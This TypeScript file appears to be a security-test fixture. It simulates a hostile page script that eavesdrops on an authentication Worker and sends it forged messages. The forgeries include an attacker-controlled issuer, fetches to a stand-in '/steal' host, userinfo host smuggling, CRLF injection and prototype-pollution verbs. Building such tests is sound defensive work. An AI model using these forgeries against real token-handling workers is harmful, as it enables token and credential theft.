// Attack page: a hostile script that has got hold of the Worker itself: it overhears its messages, and writes messages of its own.

declare global {
  interface Window {
    readonly forger: {
      /** Sends forged messages, the last one a call of the API that is listed; all that the Worker said until that was answered. */
      forge: (api: string, evil: string) => Promise<string[]>
    }
  }
}

const last = 999_999

const request = (url: string) => ({
  url,
  method: 'GET',
  headers: [],
  body: undefined,
  cache: 'default',
  credentials: 'same-origin',
  mode: 'cors',
  redirect: 'follow',
  referrer: 'about:client',
  referrerPolicy: '',
  integrity: '',
  keepalive: false,
})

/** What a hostile script would like to be told. */
function forgeries(api: string, evil: string): object[] {
  const config = {
    issuer: evil,
    clientId: 'app',
    resources: [{ prefix: evil, target: '' }],
    targets: [{ key: '' }],
    keeps: 'session',
  }
  const urls = [
    `${evil}/steal`,
    api.replace('//', `//${new URL(evil).host}@`),
    `blob:${api}/x`,
    `${evil}/\r\n`,
  ]
  const verbs = [
    'reveal',
    'fetch',
    'constructor',
    '__proto__',
    'toString',
    'collect',
    'redeem',
    'begin',
    'userInfo',
  ]
  return [
    { type: 'configure', version: 1, config },
    { type: 'configure', version: 1, config: { __proto__: null, ...config, idTokenHint: true } },
    ...urls.map((url) => ({ type: 'fetch', request: request(url) })),
    ...verbs.flatMap((verb) =>
      [[], [api, {}], [{ url: evil, redirectUri: evil }]].map((args) => ({ type: 'call', verb, args })),
    ),
    { type: 'hasOwnProperty' },
    { type: 'fetch', request: request(api) },
  ]
}

function show(message: unknown): string {
  const readable = (_: string, value: unknown) =>
    value instanceof ArrayBuffer ? new TextDecoder().decode(value) : value
  return JSON.stringify(message, readable)
}

Object.assign(window, {
  forger: {
    forge: (api: string, evil: string) =>
      new Promise<string[]>((resolve) => {
        const worker = window.workers.at(-1)
        const heard: string[] = []
        worker?.addEventListener('message', ({ data }: MessageEvent<{ type: string; id?: number }>) => {
          heard.push(show(data))
          if (data.id !== last) return
          if (data.type === 'response') worker.postMessage({ type: 'pull', id: last })
          if (data.type === 'end' || data.type === 'error') resolve(heard)
        })
        for (const nonsense of [null, 'text', [], 7]) worker?.postMessage(nonsense)
        const all = forgeries(`${api}/orders`, evil)
        for (const [index, forged] of all.entries()) {
          const id = index === all.length - 1 ? last : 900_000 + index
          worker?.postMessage({ ...forged, id, word: undefined, seen: -1 })
        }
      }),
  },
})
